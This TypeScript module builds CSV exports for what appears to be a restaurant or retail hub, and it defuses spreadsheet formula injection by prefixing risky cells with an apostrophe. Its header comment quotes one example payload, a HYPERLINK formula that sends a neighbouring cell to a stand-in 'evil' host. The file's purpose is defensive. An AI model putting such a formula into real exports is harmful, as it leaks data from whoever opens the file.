/**
 * CSV for every file the hub or HQ writes — reports, accounting exports, anything a manager opens in
 * a spreadsheet (CONTRACT §12 "Exports"). Build every CSV with csvDocument()/csvLine(); never join
 * cells yourself.
 *
 * Why: a cell is text someone typed (a plu's name, a stock's, a waiter's), and a spreadsheet runs a
 * cell that begins with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return before one) as
 * a formula: a plu named `=HYPERLINK("http://evil/?x="&A2,"Open")` would send the next cell away when
 * clicked. So text beginning with one of those is written with a leading `'`, which spreadsheets show
 * and never run. Numbers the hub writes are not text: a JavaScript number, or a number the caller
 * formatted itself (a decimal comma, fixed places) passed through csvNumber(), is written as it is, so
 * `-12,50` stays a number a spreadsheet can sum.
 *
 * Pure (no imports): the pages may bundle it too should they ever build a CSV in the browser.
 */

/** A number the caller formatted (e.g. `-12,50`): written as it is, never neutralised. */
export interface CsvNumber {
  readonly csvNumber: string;
}

export type CsvCell = string | number | null | undefined | CsvNumber;

/** Plain decimals only: digits with one decimal point or comma, an optional minus (no grouping, no exponent). */
const NUMBER_TEXT = /^-?\d+(?:[.,]\d+)?$/;

/** A cell holding a number the hub formatted itself. Throws on anything else: text must never pass as a number. */
export function csvNumber(text: string): CsvNumber {
  if (!NUMBER_TEXT.test(text)) throw new TypeError(`csvNumber: '${text}' is not a plain decimal`);
  return { csvNumber: text };
}

/** The first characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** Text a spreadsheet would run as a formula, with a leading `'`; other text unchanged. */
export function neutralised(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** One cell: numbers as written, text neutralised, quoted (RFC 4180) when it holds the separator, a quote or a line break. */
export function csvCell(value: CsvCell, separator = ','): string {
  let text: string;
  if (value === null || value === undefined) text = '';
  else if (typeof value === 'number') text = Number.isFinite(value) ? String(value) : '';
  else if (typeof value === 'object') text = value.csvNumber;
  else text = neutralised(value);
  return /["\r\n]/.test(text) || text.includes(separator) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One line of cells, without its line end. */
export function csvLine(cells: readonly CsvCell[], separator = ','): string {
  return cells.map((c) => csvCell(c, separator)).join(separator);
}

/**
 * A whole file: lines ended by CRLF (RFC 4180). `bom`: starts with a UTF-8 byte-order mark, so
 * Excel reads Š and Č (it takes a file without one for the machine's code page).
 */
export function csvDocument(rows: ReadonlyArray<readonly CsvCell[]>, opts: { separator?: string; bom?: boolean } = {}): string {
  const body = rows.map((r) => `${csvLine(r, opts.separator)}\r\n`).join('');
  return opts.bom ? `\uFEFF${body}` : body;
}
